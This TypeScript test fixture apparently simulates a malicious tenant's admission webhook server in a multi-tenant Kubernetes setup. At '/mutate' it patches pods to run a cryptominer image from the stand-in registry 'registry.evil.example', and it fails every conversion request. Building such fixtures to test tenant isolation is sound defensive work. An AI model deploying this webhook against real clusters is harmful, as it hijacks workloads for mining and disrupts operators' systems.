import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:https";
import type { Certificate } from "../control-plane/authority.ts";

/** What a tenant's own server does to a pod that its API server shows it, as a JSON patch. */
const PATCH = [
  { op: "add", path: "/metadata/labels", value: { app: "vcluster" } },
  { op: "add", path: "/spec/nodeName", value: "us-east-1" },
  { op: "replace", path: "/spec/containers/0/image", value: "registry.evil.example/miner:1" },
];

/**
 * A server as a tenant might run it: it rewrites pods at `/mutate`, breaks every conversion at
 * `/convert` and fails at anything else. Listens on a socket that leads out of a tenant cluster.
 */
export function hostileServer(socket: string, { certificate, key }: Certificate): Promise<Server> {
  const files = { cert: readFileSync(certificate), key: readFileSync(key) };
  const server = createServer(files, (request, response) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const answer = answerTo(request.url ?? "", Buffer.concat(chunks).toString("utf8"));
      response.statusCode = answer === undefined ? 500 : 200;
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify(answer ?? {}));
    });
  });
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(socket, () => resolve(server));
  });
}

function answerTo(path: string, text: string): object | undefined {
  if (!/^\/(mutate|convert)/.test(path)) return undefined;
  const { apiVersion, kind, request } = JSON.parse(text);
  const { uid } = request;
  if (path.startsWith("/convert")) {
    const result = { status: "Failure", message: "nobody converts here" };
    return { apiVersion, kind, response: { uid, result, convertedObjects: [] } };
  }
  const patch = Buffer.from(JSON.stringify(PATCH)).toString("base64");
  return { apiVersion, kind, response: { uid, allowed: true, patchType: "JSONPatch", patch } };
}
